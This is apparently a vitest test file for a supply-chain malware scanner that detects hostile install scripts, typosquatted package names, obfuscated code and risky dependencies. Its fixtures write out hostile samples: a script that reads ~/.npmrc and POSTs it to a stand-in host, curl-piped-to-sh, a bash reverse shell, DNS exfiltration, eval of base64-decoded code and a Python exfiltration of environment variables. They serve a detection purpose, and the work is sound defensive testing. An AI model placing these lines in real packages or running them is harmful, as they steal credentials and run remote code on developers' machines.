import { describe, expect, it } from 'vitest'
import { noFlows } from '../../../../src/engine/analysis/flow.ts'
import { runDetectors } from '../../../../src/engine/rules/run-detectors.ts'
import { likenessOf } from '../../../../src/engine/rules/supply-chain/names/likeness.ts'
import { popularNames, popularNamesOf } from '../../../../src/engine/rules/supply-chain/names/popular-names.ts'
import { hiddenCode } from '../../../../src/engine/rules/supply-chain/code/hidden-payload.ts'
import { scriptBehavior } from '../../../../src/engine/rules/supply-chain/install/script-behavior.ts'
import { supplyChain } from '../../../../src/engine/rules/supply-chain/detector.ts'
import type { PackageFacts } from '../../../../src/engine/model/package-facts.ts'
import { type FileContent, projectSnapshot } from '../../inventory/project-snapshot.ts'
import { findBy } from '../find-by.ts'

const reported = async (files: Record<string, FileContent>) =>
  (await findBy(supplyChain, files)).map(
    ({ ruleId, severity, location }) => `${ruleId} ${severity} ${location?.path}:${location?.startLine}`,
  )
const published = async (
  facts: PackageFacts,
  files: Record<string, FileContent> = { 'package.json': { name: 'shop' } },
) => {
  const snapshot = projectSnapshot(files)
  const source = { ...snapshot.source, type: 'npm' as const, package: facts }
  const found = await findBy(
    supplyChain,
    {},
    { snapshot: Object.assign(Object.create(snapshot), { source }), scannedAt: new Date('2026-11-21T12:00:00Z') },
  )
  return found.map(({ ruleId, severity }) => `${ruleId} ${severity}`)
}

describe('what an installation runs', () => {
  it('is followed into the files that scripts name, and into those that they load', async () => {
    const found = await findBy(supplyChain, {
      'package.json':
        '{\n "name": "shop",\n "scripts": {\n  "postinstall": "npm run setup",\n  "setup": "node tools/setup"\n }\n}',
      'tools/setup.js': "require('./send')()",
      'tools/send.js':
        "const https = require('https')\nmodule.exports = () => {\n  const secret = " +
        "require('fs').readFileSync(`${process.env.HOME}/.npmrc`)\n  https.request({ host: 'a.example', " +
        "method: 'POST' }).end(secret)\n}",
    })
    expect(
      found.map(({ ruleId, location, trace }) => [
        ruleId,
        location?.path,
        location?.startLine,
        trace?.map(({ path, line }) => `${path}:${line}`),
      ]),
    ).toEqual([['install-script-takes-secrets', 'tools/send.js', 3, ['package.json:4', 'tools/send.js:3']]])
  })

  it('does not include a file that a script only makes executable', async () => {
    const sends =
      "const https = require('https')\nhttps.request({ host: 'a.example', method: 'POST' " +
      "}).end(require('fs').readFileSync(`${process.env.HOME}/.npmrc`))"
    const scripts = (postinstall: string) =>
      reported({ 'package.json': { name: 'shop', scripts: { postinstall } }, 'build/index.js': sends })
    expect(await scripts(`tsc && node -e "require('fs').chmodSync('build/index.js', '755')"`)).toEqual([])
    expect(await scripts('chmod +x build/index.js')).toEqual([])
    expect(await scripts('chmod +x build/index.js && ./build/index.js')).toEqual([
      'install-script-takes-secrets critical build/index.js:2',
    ])
  })

  it('includes prepare of a repository, but not of a published package', async () => {
    const files = {
      'package.json': {
        name: 'shop',
        scripts: { prepare: 'curl -s https://a.example/x | sh', test: 'curl -s https://a.example/x | sh' },
      },
    }
    expect(await reported(files)).toEqual(['install-script-remote-code high package.json:1'])
    expect(await published({}, files)).toEqual([])
  })

  it.each([
    ['shell', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', ['runsRemoteCode']],
    ['shell', 'echo aGk= | base64 -d | sh', ['runsRemoteCode']],
    ['shell', 'curl -sf https://a.example/tool -o tool && chmod +x tool && ./tool --version', ['runsRemoteCode']],
    ['shell', 'node-gyp rebuild || echo "no compiler"', []],
    ['shell', 'husky install && patch-package', []],
    [
      'javascript',
      'const os = ' +
        "require('os')\nrequire('dns').lookup(`${os.hostname()}.${os.userInfo().username}.a.example`, () => " +
        '{})',
      ['takesSecrets'],
    ],
    [
      'javascript',
      "fetch('https://a.example/v').then((r) => r.text()).then((code) => new Function(code)())",
      ['runsRemoteCode'],
    ],
    ['javascript', '// eval(fetch("https://a.example"))\nconsole.log("thank you")', []],
    ['javascript', "const { env } = process\nif (env.CI) console.log('built', os.hostname())", []],
    [
      'python',
      'import subprocess\nversion = subprocess.check_output(["git", ' +
        '"describe"])\nexec(compile(open("a.py").read(), "a.py", "exec"))',
      [],
    ],
    [
      'python',
      'import os, urllib.request\nurllib.request.urlopen("https://a.example/?" + str(dict(os.environ)))',
      ['takesSecrets'],
    ],
  ] as const)('is judged by its text: %s %#', (language, text, expected) => {
    expect(Object.keys(scriptBehavior(text, language))).toEqual(expected)
  })
})

describe('names', () => {
  it.each([
    ['expres', 'express', true],
    ['exprses', 'express', true],
    ['cross_env', 'cross-env', true],
    ['l0dash', 'lodash', true],
    ['nodernailer', 'nodemailer', true],
    ['@modelcontextprotocoi/sdk', '@modelcontextprotocol/sdk', true],
    ['modelcontextprotocol-server-everything', '@modelcontextprotocol/server-everything', true],
    ['@acme/express', 'express', false],
    ['express-session', 'express', false],
    ['expressing', 'express', false],
    ['koa2', 'koa', false],
    ['server', 'semver', false],
    ['semvet', 'semver', true],
    ['mysql2', 'mysql', false],
    ['ws', 'ms', false],
    ['sdk', '@modelcontextprotocol/sdk', false],
    ['python-dateutil', 'python-dotenv', false],
  ])('%s beside %s: %s', (name, known, expected) => {
    expect(likenessOf(name, known) !== undefined).toBe(expected)
  })

  it('of the built-in list are unique, and at most 300 of one date', () => {
    expect(popularNames.npm.length + popularNames.PyPI.length).toBeLessThanOrEqual(300)
    expect(popularNames.date).toMatch(/^\d{4}-\d\d-\d\d$/)
    expect(new Set(popularNames.npm).size).toBe(popularNames.npm.length)
    expect(new Set(popularNames.PyPI).size).toBe(popularNames.PyPI.length)
  })

  it('are compared by another list where the scan has one', async () => {
    const files = { 'package.json': { name: 'shop', dependencies: { 'acme-parzer': '^1.0.0' } } }
    expect(await reported(files)).toEqual([])
    const found = await findBy(supplyChain, files, {
      names: popularNamesOf({ date: '2026-11-21', npm: ['acme-parser'], PyPI: [] }),
    })
    expect(found.map(({ ruleId }) => ruleId)).toEqual(['look-alike-name'])
  })
})

describe('registry metadata', () => {
  it.each([
    [{ versions: 1, publishedAt: '2026-11-20T00:00:00.000Z' }, ['first-release info']],
    [{ versions: 1, publishedAt: '2026-01-20T00:00:00.000Z' }, []],
    [{ versions: 2, publishedAt: '2026-11-20T00:00:00.000Z' }, []],
    [{ deprecated: 'use another one' }, ['deprecated-package low']],
    [{ yanked: true, deprecated: 'This release was yanked: broken' }, ['yanked-release medium']],
    [{ signature: { state: 'invalid', detail: 'an unknown key' } }, ['invalid-signature high']],
    [{ signature: { state: 'absent', detail: 'none' }, provenance: { state: 'unreachable', detail: 'no answer' } }, []],
    [
      { manifestDifferences: ['The script postinstall is missing in the registry and "node a.js" in the archive.'] },
      ['manifest-mismatch medium'],
    ],
  ] as const)('%#', async (facts, expected) => {
    expect(await published(facts as PackageFacts)).toEqual(expected)
  })
})

describe('files that hide', () => {
  it.each([
    ['logo.png', Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(60)]), ['binary-file high']],
    ['build/addon.node', Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(60)]), ['binary-file info']],
    [
      'bin/a.exe',
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([64, 0, 0, 0]), Buffer.from('PE\0\0')]),
      ['binary-file medium'],
    ],
    ['notes.txt', Buffer.from('MZ is how some programs begin, and this is a text of more than sixty-four bytes.'), []],
    ['Main.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61, 0, 0]), []],
    ['test/fixtures/a.bin', Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(60)]), []],
    [
      'a.js',
      Buffer.from(`const a = '${'QUJD'.repeat(40)}'\nconst b = Buffer.from(a, 'base64').toString()\neval(b)`),
      ['obfuscated-code high'],
    ],
    ['a.js', Buffer.from(`const logo = '${'QUJD'.repeat(40)}'\nwrite(Buffer.from(logo, 'base64'))`), []],
    ['a.py', Buffer.from('__import__("so"[::-1]).system("id")'), ['obfuscated-code high']],
    ['a.ts', Buffer.from('const greeting = "שלום \u202bעולם\u202c"'), []],
  ])('%s %#', async (path, content, expected) => {
    expect(
      (await findBy(supplyChain, { [path]: content })).map(({ ruleId, severity }) => `${ruleId} ${severity}`),
    ).toEqual(expected)
  })

  it.each([
    [`const fs = require(atob('ZnM='))`, ['decoded-module-names']],
    [`const run = require(atob(name))`, ['decoded-module-names']],
    [`const starts = ["require(atob(", 'require(atob(', "require(Buffer.from("]`, []],
  ])('tells a decoded name of a module from a list of texts: %s', (text, techniques) => {
    expect(hiddenCode(text, 'javascript').map(({ technique }) => technique)).toEqual(techniques)
  })

  it.each([
    [`const samples = { 'index.js': "eval(atob('YWxlcnQoMSk='))" }`, []],
    [`const samples = [{ code: "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())", line: 1 }]`, []],
    [`const samples = { a: 'eval(atob("YWxlcnQoMSk="))' }\neval(atob('YWxlcnQoMSk='))`, ['decode-and-run']],
    [`const scripts = { install: "eval(atob('${'YWxlcnQo'.repeat(5)}'))" }`, ['decode-and-run']],
    [`const scripts = { install: "eval(atob(next))" + tail }`, ['decode-and-run']],
    [`run({ now: eval(atob('YWxlcnQoMSk=')) })`, ['decode-and-run']],
    [`writeFileSync('x.js', "eval(atob('YWxlcnQoMSk='))")`, ['decode-and-run']],
    [`setTimeout("eval(atob('YWxlcnQoMSk='))", 1)`, ['decode-and-run']],
    [`const samples = { a: "eval(atob('YWxlcnQoMSk=')) `, ['decode-and-run']],
  ])('distinguishes code that runs from a short sample in a property: %s', (text, techniques) => {
    expect(hiddenCode(text, 'javascript').map(({ technique }) => technique)).toEqual(techniques)
  })

  it.each([
    ['brackets', '[]()!+'.repeat(80_000)],
    ['texts', "'\\x41', ".repeat(60_000)],
    ['spaces', ' a'.padEnd(300_000) + 'b'],
    ['characters', 'String.fromCharCode('.repeat(20_000)],
    ['assignments', `const a = "${'QUJD'.repeat(100_000)}`],
    ['globals', 'global["a"+'.repeat(40_000)],
    ['digits', 'chr(1)+'.repeat(60_000)],
    ['names', '_0x '.repeat(100_000)],
    ['samples', `:"eval(atob("YQ"))`.repeat(30_000)],
  ])('takes time in proportion to the worst text: %s', (_what, text) => {
    const started = performance.now()
    hiddenCode(text, 'javascript')
    hiddenCode(text, 'python')
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})

describe('dependencies', () => {
  it.each([
    [
      { 'pyproject.toml': '[project]\nname = "shop"\ndependencies = [\n  "mcp>=1.0",\n  "acme-parser",\n]\n' },
      ['unpinned-dependency low pyproject.toml:5'],
    ],
    [
      {
        'pyproject.toml':
          '[tool.poetry.dependencies]\npython = "^3.12"\nacme-parser = { git = ' +
          '"https://git.example/acme/parser.git", branch = "main" }\n',
      },
      ['remote-dependency low pyproject.toml:3'],
    ],
    [
      { 'requirements.txt': '# acme\n-r base.txt\nacme-parser @ https://files.example/acme-parser-1.0.tar.gz\n' },
      ['remote-dependency low requirements.txt:3'],
    ],
    [{ 'requirements.txt': 'acme-parser[all]>=1.0,<2 ; python_version > "3.9"  # fine\n' }, []],
    [
      {
        'setup.py':
          'from setuptools import setup\nsetup(\n  name="shop",\n  install_requires=[\n    ' +
          '"acme-parser==1.0",\n    "reqeusts==2.0",\n  ],\n)\n',
      },
      ['look-alike-name medium setup.py:6'],
    ],
    [
      {
        'package.json':
          '{"dependencies":{"acme-parser":"github:acme/parser#0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"}}',
      },
      ['remote-dependency info package.json:1'],
    ],
    [{ 'package.json': '{"peerDependencies":{"acme-parser":"*"},"devDependencies":{"acme-tool":"latest"}}' }, []],
    [{ 'package.json': '[1, {' }, []],
  ] as const)('%#', async (files, expected) => {
    expect(await reported(files)).toEqual(expected)
  })
})

describe('too much code to analyze', () => {
  it('is a coverage gap and makes the detector partial', async () => {
    const scripts = Object.fromEntries(
      ['preinstall', 'install', 'postinstall'].map((name) => [name, `node ${name}.js`]),
    )
    const text = `${'a()\n'.repeat(120_000)}`
    const snapshot = projectSnapshot({
      'package.json': { name: 'shop', scripts },
      'preinstall.js': text,
      'install.js': text,
      'postinstall.js': text,
    })
    const { coverage } = await runDetectors(
      { snapshot, components: [], advisoryMatches: [], flows: noFlows, signal: new AbortController().signal },
      [supplyChain],
    )
    expect(coverage).toMatchObject([
      { status: 'partial', reason: 'the installation runs too much code to be fully analyzed' },
    ])
  })
})
